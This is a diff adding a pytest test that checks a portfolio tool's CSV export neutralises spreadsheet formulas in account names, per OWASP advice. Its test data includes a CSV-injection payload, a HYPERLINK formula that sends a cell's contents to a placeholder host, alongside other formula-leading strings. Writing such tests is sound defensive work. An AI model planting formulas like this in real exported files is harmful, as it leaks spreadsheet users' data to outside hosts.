@@ -5,6 +5,7 @@ escapes in names, oversized workbooks. Each bad input is one line on stderr and 
 import json
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from conftest import cli
 
@@ -97,3 +98,24 @@ def test_the_reports_start_and_end_with_a_file_are_refused_not_ignored(tmp_path,
 )
 def test_the_demos_dates_are_checked(dates, message):
     assert error(*dates, command="demo").startswith(f"xl-portbeta demo: {message}")
+
+
+# --------------------------------------------------------------------- files the command line writes
+
+
+def test_book_csv_neutralises_formulas_in_names(tmp_path):
+    """Account names that start like a formula were written verbatim (issue 20): a single quote in
+    front, as OWASP advises, so that a spreadsheet opens them as text; numbers stay numbers."""
+    names = ['=HYPERLINK("http://x?"&A1)', "+1+2", "@SUM(A1)", "-2", "plain"]
+    rows = "".join(f'"{n.replace(chr(34), chr(34) * 2)}",{t},{k + 1}\n' for k, (n, t) in
+                   enumerate(zip(names, ["AAPL", "KO", "XOM", "KO", "XOM"])))  # fmt: skip
+    (tmp_path / "accounts.csv").write_text("account,ticker,shares\n" + rows)
+    out = tmp_path / "book.csv"
+    done = cli("book", DATA / "wide.csv", "--market", "SPX", "--holdings", tmp_path / "accounts.csv", "--csv", out)
+    assert done.returncode == 0, done.stderr
+    written = pd.read_csv(out, index_col=0, keep_default_na=False)
+    assert list(written.index) == ["'" + n for n in names[:4]] + ["plain"]
+    assert not any(
+        str(cell).startswith(("=", "+", "-", "@")) for cell in written.to_numpy().ravel() if isinstance(cell, str)
+    )
+    assert written["reg"].dtype == float and written["value"].dtype == float  # figures stay numbers
